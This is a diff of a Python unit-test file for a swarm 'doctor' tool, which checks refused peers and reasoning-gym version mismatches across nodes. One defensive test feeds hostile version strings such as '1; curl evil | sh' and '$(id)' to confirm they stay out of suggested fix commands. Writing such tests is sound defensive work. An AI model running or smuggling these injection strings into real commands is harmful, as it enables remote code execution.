@@ -8,7 +8,8 @@ from pathlib import Path
 import msgspec
 import pytest
 
-from swarm.views.doctor import trust, versions
+from swarm.views.doctor import logs
+from swarm.views.doctor.context import RECENT
 from tests.unit.views.doctor.patients import FAILURE, OK, WARNING, look, make_patient
 from tests.unit.views.factories import START, append, append_events, make_event, make_experiment, make_row
 
@@ -22,7 +23,7 @@ def start(layout: object, node: str, **said: str) -> None:
 
 def test_nobody_is_refused_in_a_good_swarm(tmp_path: Path) -> None:
     make_experiment(tmp_path / "shared")
-    assert look(trust.check, make_patient(tmp_path / "shared"))["refused peers"].verdict is OK
+    assert look(logs.check_trust, make_patient(tmp_path / "shared"))["refused peers"].verdict is OK
 
 
 def test_a_refused_and_quarantined_peer_is_named_with_reason_and_mend(tmp_path: Path) -> None:
@@ -31,7 +32,7 @@ def test_a_refused_and_quarantined_peer_is_named_with_reason_and_mend(tmp_path: 
         layout, "alice", 3, refused_by_peer={"mallory": {"gym_version": 4, "empty": 1}}, quarantined=["mallory"]
     )
     append(layout.metrics_file("alice"), msgspec.json.encode(row))
-    found = look(trust.check, make_patient(layout.path))["refused peer"]
+    found = look(logs.check_trust, make_patient(layout.path))["refused peer"]
     assert found.verdict is WARNING
     assert found.measured == "mallory: gym_version 4, empty 1, by 1 nodes; quarantined by 1 nodes"
     assert "reasoning-gym" in found.fix
@@ -39,25 +40,25 @@ def test_a_refused_and_quarantined_peer_is_named_with_reason_and_mend(tmp_path: 
 
 def test_refusals_of_long_ago_are_over(tmp_path: Path) -> None:
     layout = make_experiment(tmp_path / "shared", rounds=0)
-    for number in range(trust.RECENT + 1):
+    for number in range(RECENT + 1):
         refused = {"mallory": {"empty": 1}} if number == 0 else {}
         append(
             layout.metrics_file("alice"),
             msgspec.json.encode(make_row(layout, "alice", number, refused_by_peer=refused)),
         )
-    assert look(trust.check, make_patient(layout.path))["refused peers"].verdict is OK
+    assert look(logs.check_trust, make_patient(layout.path))["refused peers"].verdict is OK
 
 
 @pytest.mark.parametrize(("reason", "word"), [("wrong_version", "swarm version"), ("never heard of", "swarm logs")])
 def test_every_reason_has_a_mend(reason: str, word: str) -> None:
-    assert word in trust.mend_for({reason: 2, "other": 1})
+    assert word in logs.mend_for({reason: 2, "other": 1})
 
 
 def test_equal_versions_are_well(tmp_path: Path) -> None:
     layout = make_experiment(tmp_path / "shared")
     for node in ("alice", "bob"):
         start(layout, node, swarm="0.1.0", reasoning_gym=version("reasoning-gym"))
-    found = look(versions.check, make_patient(layout.path))
+    found = look(logs.check_versions, make_patient(layout.path))
     assert found["reasoning-gym"].verdict is OK
     assert found["reasoning-gym"].measured == f"{version('reasoning-gym')} on 2 nodes"
     assert found["swarm"].verdict is OK
@@ -68,7 +69,7 @@ def test_other_versions_of_reasoning_gym_are_a_failure_and_of_swarm_a_warning(tm
     layout = make_experiment(tmp_path / "shared")
     start(layout, "alice", swarm="0.1.0", reasoning_gym="0.1.9")
     start(layout, "bob", swarm="0.2.0", reasoning_gym="0.1.25")
-    found = look(versions.check, make_patient(layout.path))
+    found = look(logs.check_versions, make_patient(layout.path))
     assert found["reasoning-gym"].verdict is FAILURE
     assert found["reasoning-gym"].measured == "0.1.9 on alice; 0.1.25 on bob"
     assert "reasoning-gym==0.1.25" in found["reasoning-gym"].fix
@@ -80,19 +81,19 @@ def test_the_last_start_of_a_node_counts(tmp_path: Path) -> None:
     for older_first in ("0.1.9", "0.1.25"):
         start(layout, "alice", swarm="0.1.0", reasoning_gym=older_first)
     start(layout, "bob", swarm="0.1.0", reasoning_gym="0.1.25")
-    assert {said["reasoning-gym"] for said in versions.measure(layout).values()} == {"0.1.25"}
+    assert {log.said["reasoning-gym"] for log in make_patient(layout.path).logs.values() if log.said} == {"0.1.25"}
 
 
 def test_a_host_whose_version_is_not_that_of_the_nodes_is_warned() -> None:
     nodes = {"alice": {GYM: "0.1.25"}}
-    assert versions.judge(GYM, nodes, "0.1.25").verdict is OK
-    assert versions.judge(GYM, nodes, "").verdict is OK  # a host that only looks
-    found = versions.judge(GYM, nodes, "0.1.30")
+    assert logs.judge_package(GYM, nodes, "0.1.25").verdict is OK
+    assert logs.judge_package(GYM, nodes, "").verdict is OK  # a host that only looks
+    found = logs.judge_package(GYM, nodes, "0.1.30")
     assert (found.verdict, "reasoning-gym==0.1.25" in found.fix) == (WARNING, True)
 
 
 @pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
 def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
     nodes = {"alice": {GYM: "0.1.25"}, "mallory": {GYM: said, "swarm": said}}
-    for finding in (versions.judge(GYM, nodes, "0.1.30"), versions.judge_ours(nodes)):
+    for finding in (logs.judge_package(GYM, nodes, "0.1.30"), logs.judge_ours(nodes)):
         assert said not in finding.fix
